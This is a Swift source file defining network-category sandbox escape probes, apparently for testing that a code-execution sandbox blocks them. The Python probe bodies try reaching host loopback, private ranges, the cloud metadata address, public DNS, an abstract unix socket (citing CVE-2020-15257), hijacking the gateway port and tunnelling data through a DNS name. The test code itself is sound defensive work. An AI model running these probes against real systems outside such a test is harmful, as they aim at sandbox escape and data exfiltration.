extension Attack {
    static let network: [Attack] = [
        reach(
            "host-loopback", "a service of the host on 127.0.0.1", "('127.0.0.1', number('HOST_PORT'))", "ECONNREFUSED"),
        reach("service-api", "CodeForge's own API", "('127.0.0.1', number('API_PORT'))", "ECONNREFUSED"),
        reach(
            "host-loopback-alias", "the host by another loopback address", "('127.1.2.3', number('API_PORT'))",
            "ECONNREFUSED", control: .unsafe("the test's services listen on 127.0.0.1 alone")),
        reach("any-address", "the host as 0.0.0.0", "('0.0.0.0', number('HOST_PORT'))", "ECONNREFUSED"),
        datagram("private-10", "('10.0.0.1', 80)"), datagram("private-172", "('172.16.0.1', 80)"),
        datagram("private-192", "('192.168.0.1', 80)"), datagram("metadata", "('169.254.169.254', 80)"),
        datagram("public", "('1.1.1.1', 443)"), datagram("dns-server", "('8.8.8.8', 53)"),
        datagram("broadcast", "('255.255.255.255', 9)"), datagram("multicast", "('224.0.0.251', 5353)"),
        Attack(
            name: "ipv6-public", category: .network, tries: "sends to a public IPv6 address",
            walls: [.networkNamespace],
            reference: "ipv6(7)",
            body: .probe("s = socket.socket(10, 2); s.connect(('2001:4860:4860::8888', 53)); s.send(b'x')"),
            refusal: ["ENETUNREACH"], control: .unsafe("the host of the tests may have no IPv6 route")),
        Attack(
            name: "ipv4-mapped", category: .network, tries: "hides a private address in an IPv6 one",
            walls: [.networkNamespace], reference: "RFC 4291 2.5.5.2",
            body: .probe("s = socket.socket(10, 2); s.connect(('::ffff:10.0.0.1', 80)); s.send(b'x')"),
            refusal: ["ENETUNREACH", "EADDRNOTAVAIL"], control: .outside([])),
        Attack(
            name: "resolve-name", category: .network, tries: "carries data out in a name it has resolved",
            walls: [.networkNamespace], reference: "getaddrinfo(3); DNS tunnelling",
            body: .probe("socket.getaddrinfo('secret.example.com', 80)"), refusal: ["gaierror", "EAI"],
            control: .unsafe("would ask name servers of the network")),
        Attack(
            name: "host-abstract-socket", category: .network, tries: "connects to an abstract unix socket of the host",
            walls: [.networkNamespace], reference: "unix(7); CVE-2020-15257",
            body: .probe("socket.socket(1, 1).connect('\\0' + word('ABSTRACT'))"), refusal: ["ECONNREFUSED"],
            control: .outside([])),
        Attack(
            name: "configure-interface", category: .network, tries: "gives an interface an address",
            walls: [.capabilities, .networkNamespace], reference: "netdevice(7) SIOCSIFADDR",
            body: .probe(
                """
                become_root(NEWNET)
                address = struct.pack('HH', 2, 0) + socket.inet_aton('10.0.0.1') + bytes(8)
                fcntl.ioctl(socket.socket(), 0x8916, b'lo'.ljust(16, b'\\0') + address)
                """), refusal: ["EPERM"], control: .anyCall),
        Attack(
            name: "take-gateway-port", category: .network, tries: "listens where the gateway does, to get its requests",
            walls: [.networkNamespace], reference: "socket(7) SO_REUSEPORT",
            body: .probe(
                """
                s = socket.socket()
                s.setsockopt(1, 15, 1)
                s.setsockopt(1, 2, 1)
                s.bind(GATEWAY)
                s.listen()
                """), refusal: ["EADDRINUSE"], control: .changed("no gateway", { $0.gatewayPort = nil })),
        Attack(
            name: "gateway-socket-inside", category: .network,
            tries: "finds the gateway's listening socket in a process",
            walls: [.descriptors], reference: "unix(7) SCM_RIGHTS",
            body: .probe(
                """
                if any(l.startswith('socket:') for l in links()): return 'found'
                raise Refused('no socket')
                """), refusal: ["no socket"],
            control: .outside([
                "python3", "-c",
                "import socket,sys,os; s=socket.socket(); s.bind(('127.0.0.1',0)); s.listen(); os.set_inheritable(s.fileno(),True); os.execvp(sys.argv[1],sys.argv[1:])",
            ])),
    ]

    private static func reach(
        _ name: String, _ what: String, _ address: String, _ errno: String, control: Control = .outside([])
    ) -> Attack {
        Attack(
            name: "reach-" + name, category: .network, tries: "connects to \(what)", walls: [.networkNamespace],
            reference: "network_namespaces(7)", body: .probe("socket.create_connection(\(address), 3)"),
            refusal: [errno], control: control)
    }

    /// A datagram says at once whether there is a way, and disturbs nobody.
    private static func datagram(_ name: String, _ address: String) -> Attack {
        Attack(
            name: "reach-" + name, category: .network, tries: "sends to \(address)", walls: [.networkNamespace],
            reference: name == "metadata" ? "RFC 3927; CWE-918" : "network_namespaces(7)",
            body: .probe("s = socket.socket(2, 2); s.setsockopt(1, 6, 1); s.connect(\(address)); s.send(b'')"),
            refusal: ["ENETUNREACH"], control: .outside([]))
    }
}
